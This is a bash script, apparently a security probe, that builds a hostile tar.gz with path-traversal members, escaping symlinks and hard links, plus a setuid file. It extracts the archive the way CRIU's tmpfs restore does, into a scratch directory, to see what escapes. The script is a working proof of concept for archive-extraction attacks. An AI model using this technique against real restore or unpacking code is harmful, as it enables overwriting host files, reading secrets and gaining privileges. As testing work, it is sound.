#!/bin/bash
# attack30i: what CRIU's own untar of a tmpfs image (criu/mount.c tmpfs_restore: `tar --extract --gzip --no-unquote
# --no-wildcards --directory MNT`, as root) does with hostile members; run here into a scratch directory standing in
# for the fresh tmpfs (no CRIU needed for the tar's behaviour).
set -u
D=/var/tmp/attack30i/tartest; rm -rf $D; mkdir -p $D/mnt $D/outside; echo host-secret > $D/outside/secret
/usr/lib/gpuckpt/venv/bin/python3 - <<PY
import io, tarfile, gzip
D = "$D"
buf = io.BytesIO()
def add(t, name, kind=tarfile.REGTYPE, link="", data=b"x", mode=0o644):
    i = tarfile.TarInfo(name); i.type, i.linkname, i.mode = kind, link, mode
    if kind == tarfile.REGTYPE: i.size = len(data); t.addfile(i, io.BytesIO(data))
    else: t.addfile(i)
with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as t:
    add(t, D + "/outside/abs-written")                      # absolute member
    add(t, "../outside/dotdot-written")                      # climbing member
    add(t, "l", tarfile.SYMTYPE, D + "/outside")             # absolute link, then a member through it
    add(t, "l/vialink-written")
    add(t, "r", tarfile.SYMTYPE, "../outside")               # relative climbing link, then through it
    add(t, "r/viarel-written")
    add(t, "h", tarfile.LNKTYPE, D + "/outside/secret")      # hard link to a host file, absolute
    add(t, "h2", tarfile.LNKTYPE, "../outside/secret")       # hard link, climbing
    add(t, "h3", tarfile.LNKTYPE, "l/secret")                # hard link through the (placeholder) link
    add(t, "suid", data=b"#!/bin/sh\n", mode=0o4755)         # set-id bits kept (as root)
    add(t, "l", tarfile.SYMTYPE, D + "/outside")             # the same link again, then a directory member
    add(t, "l/", tarfile.DIRTYPE)
open(D + "/evil.tar.gz", "wb").write(gzip.compress(buf.getvalue()))
PY
tar --extract --gzip --no-unquote --no-wildcards --directory $D/mnt -f $D/evil.tar.gz 2>&1 | sed 's/^/tar: /'
echo "tar rc=${PIPESTATUS[0]}"
echo "outside now:"; ls -la $D/outside | sed 's/^/  /'
echo "mnt now:"; ls -la $D/mnt | sed 's/^/  /'
for f in h h2 h3; do [ -f $D/mnt/$f ] && echo "$f: $(cat $D/mnt/$f) (links $(stat -c %h $D/mnt/$f))"; done
